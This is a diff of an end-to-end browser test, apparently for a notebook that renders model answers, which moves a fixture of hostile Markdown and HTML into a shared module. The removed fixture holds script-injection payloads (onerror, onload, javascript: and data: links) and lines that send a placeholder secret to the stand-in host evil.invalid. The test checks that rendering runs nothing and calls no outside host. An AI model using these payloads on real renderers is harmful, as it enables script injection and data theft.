@@ -7,6 +7,7 @@ from typing import TYPE_CHECKING
 from playwright.sync_api import expect
 
 from tests.e2e.answers import held
+from tests.e2e.hostile import DANGEROUS, HANDLERS, HOSTILE
 
 if TYPE_CHECKING:
     from collections.abc import Callable
@@ -15,51 +16,10 @@ if TYPE_CHECKING:
     from tests.e2e.notebook_page import NotebookPage
     from tests.fake_mibyan import FakeMibyan
 
-_HOSTILE = r"""Begin.
-
-<img src=x onerror="window.__pwned='img'">
-
-<script>window.__pwned='script'</script>
-
-<svg onload="window.__pwned='svg'"></svg> <svg/onload=window.__pwned='svg2'>
-
-<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>
-
-![picture](https://evil.invalid/?d=SECRET)
-
-![x][leak] and <img src=https://evil.invalid/?d=SECRET-HTML>
-
-[leak]: https://evil.invalid/?d=SECRET-REFERENCE
-
-<style>@import 'https://evil.invalid/?d=SECRET-CSS'; body { display: none }</style>
-
-<link rel=stylesheet href=https://evil.invalid/?d=SECRET-LINK>
-
-<video src=https://evil.invalid/?d=SECRET-VIDEO autoplay></video>
-
-<base href=https://evil.invalid/> <meta http-equiv=refresh content="0;https://evil.invalid/?d=M">
-
-[a](javascript:window.__pwned='link') <a href="javascript:window.__pwned='anchor'">c</a>
-
-[b](data:text/html,<script>parent.__pwned=1</script>) ![d](data:image/svg+xml;base64,PHN2Zz4=)
-
-$\href{javascript:window.__pwned='tex'}{x}$ $$\style{background:url(https://evil.invalid/?d=T)}{y}$$
-
-```html
-<img src=x onerror="window.__pwned='fence'"><img src=https://evil.invalid/?d=FENCE>
-```
-
-| <img src=x onerror="window.__pwned='table'"> | b |
-|---|---|
-| <details open ontoggle="window.__pwned='toggle'"> | 1 |
-
-The end."""
-_PARTS = [f"{part}\n\n" for part in _HOSTILE.split("\n\n")]
+_PARTS = [f"{part}\n\n" for part in HOSTILE.split("\n\n")]
 # Without what would take the page itself away.
 _CONTROL = "".join(part for part in _PARTS if "<meta" not in part)
 _PLAIN = f"from IPython.display import Markdown, display\ndisplay(Markdown({_CONTROL!r}))"
-_DANGEROUS = "script, img, svg, iframe, style, link, video, base, meta, form, object"
-_HANDLERS = "area => [...area.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
 
 
 def test_hostile_answer_runs_nothing_and_calls_nobody(
@@ -74,13 +34,13 @@ def test_hostile_answer_runs_nothing_and_calls_nobody(
         fake.wait_for_holds(number)
         if not part.startswith("[leak]"):
             notebook.wait_until_frames_rest(1)
-        assert answer.locator(_DANGEROUS).count() == 0
+        assert answer.locator(DANGEROUS).count() == 0
         fake.release()
     notebook.wait_until_done(1)
     expect(answer).to_contain_text("The end.")
     expect(answer).to_contain_text("<script>window.__pwned='script'</script>")
-    assert answer.locator(_DANGEROUS).count() == 0
-    assert not [name for name in answer.evaluate(_HANDLERS) if name.startswith("on")]
+    assert answer.locator(DANGEROUS).count() == 0
+    assert not [name for name in answer.evaluate(HANDLERS) if name.startswith("on")]
     links = answer.locator("a").evaluate_all("links => links.map(link => link.protocol)")
     assert links
     assert set(links) <= {"http:", "https:", "mailto:"}
